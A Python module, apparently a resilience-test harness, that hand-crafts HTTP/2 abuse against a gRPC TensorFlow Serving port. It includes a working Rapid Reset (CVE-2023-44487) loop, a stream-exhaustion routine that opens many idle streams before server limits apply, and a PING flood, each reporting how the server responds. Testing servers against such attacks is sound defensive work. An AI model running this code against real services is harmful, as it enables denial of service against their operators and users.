"""Hand-written HTTP/2 abuse of a gRPC port (the ``h2`` state machine over a plain socket): what no gRPC
client library will send.

- ``rapid_reset(host, port, streams)``: HEADERS for a Predict then RST_STREAM(CANCEL) at once, ``streams``
  times in a tight loop on one connection (CVE-2023-44487's pattern).
- ``idle_streams(host, port, streams)``: opens ``streams`` Predict streams that never send a message, all at
  once before the server's SETTINGS are read (so the client-side limit does not apply), and holds them.

Both return an ``Abuse`` report: streams sent, streams the server refused (RST_STREAM), whether it sent
GOAWAY (and its error code), whether it closed the connection.
"""

from __future__ import annotations

import contextlib
import socket
import time
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

__all__ = ["PREDICT_PATH", "Abuse", "idle_streams", "ping_flood", "rapid_reset"]

PREDICT_PATH = "/tensorflow.serving.PredictionService/Predict"


@dataclass
class Abuse:
    sent: int = 0
    refused: int = 0
    goaway: str = ""  # the GOAWAY's error code name, "" when none came
    closed: bool = False
    held: list[socket.socket] = field(default_factory=list)  # open connections the caller must close

    def close(self) -> None:
        for sock in self.held:
            with contextlib.suppress(OSError):
                sock.close()
        self.held.clear()


def _connect(host: str, port: int) -> tuple[socket.socket, h2.connection.H2Connection]:
    sock = socket.create_connection((host, port), timeout=30)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def _headers(host: str, port: int) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", PREDICT_PATH),
        (":authority", f"{host}:{port}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def _read(sock: socket.socket, conn: h2.connection.H2Connection, report: Abuse, wait: float) -> None:
    """Handle what the server sent within ``wait`` seconds (0: only what is already there)."""
    sock.settimeout(wait if wait > 0 else 0.0)
    try:
        while True:
            data = sock.recv(1 << 16)
            if not data:
                report.closed = True
                return
            try:
                events = conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                report.closed = True
                return
            for event in events:
                if isinstance(event, h2.events.StreamReset) and event.remote_reset:
                    report.refused += 1
                elif isinstance(event, h2.events.ConnectionTerminated):
                    code = event.error_code
                    report.goaway = code.name if isinstance(code, h2.errors.ErrorCodes) else str(code)
            with contextlib.suppress(OSError):
                sock.sendall(conn.data_to_send())
            sock.settimeout(0.0 if wait <= 0 else wait)
    except (BlockingIOError, TimeoutError):
        return
    except OSError:
        report.closed = True


def rapid_reset(host: str, port: int, streams: int, batch: int = 100) -> Abuse:
    """HEADERS + RST_STREAM ``streams`` times on one connection; stops early on GOAWAY or a closed socket."""
    report = Abuse()
    sock, conn = _connect(host, port)
    headers = _headers(host, port)
    try:
        while report.sent < streams and not report.goaway and not report.closed:
            for _ in range(min(batch, streams - report.sent)):
                stream = conn.get_next_available_stream_id()
                try:
                    conn.send_headers(stream, headers)
                    conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                except h2.exceptions.ProtocolError:  # the connection is over (GOAWAY received)
                    report.closed = True
                    break
                report.sent += 1
            try:
                sock.sendall(conn.data_to_send())
            except OSError:
                report.closed = True
                break
            _read(sock, conn, report, 0)
        _read(sock, conn, report, 2.0)  # what the server says once the loop is over
    finally:
        sock.close()
    return report


def idle_streams(host: str, port: int, streams: int, connections: int = 1) -> Abuse:
    """``streams`` message-less Predict streams on each of ``connections`` connections, held open (the
    caller closes ``report.held``)."""
    report = Abuse()
    headers = _headers(host, port)
    for _ in range(connections):
        sock, conn = _connect(host, port)
        report.held.append(sock)
        for _ in range(streams):  # all before the server's SETTINGS are read: no client-side limit
            conn.send_headers(conn.get_next_available_stream_id(), headers)
            report.sent += 1
        try:
            sock.sendall(conn.data_to_send())
        except OSError:
            report.closed = True
            continue
        deadline = time.monotonic() + 2.0
        while time.monotonic() < deadline and not report.closed:  # collect the refusals
            _read(sock, conn, report, 0.2)
    return report


def ping_flood(host: str, port: int, pings: int, batch: int = 50) -> Abuse:
    """``pings`` PING frames with no call on the connection; stops early on GOAWAY or a closed socket."""
    report = Abuse()
    sock, conn = _connect(host, port)
    try:
        while report.sent < pings and not report.goaway and not report.closed:
            for _ in range(min(batch, pings - report.sent)):
                conn.ping(report.sent.to_bytes(8, "big"))
                report.sent += 1
            try:
                sock.sendall(conn.data_to_send())
            except OSError:
                report.closed = True
                break
            _read(sock, conn, report, 0.05)
        _read(sock, conn, report, 2.0)
    finally:
        sock.close()
    return report
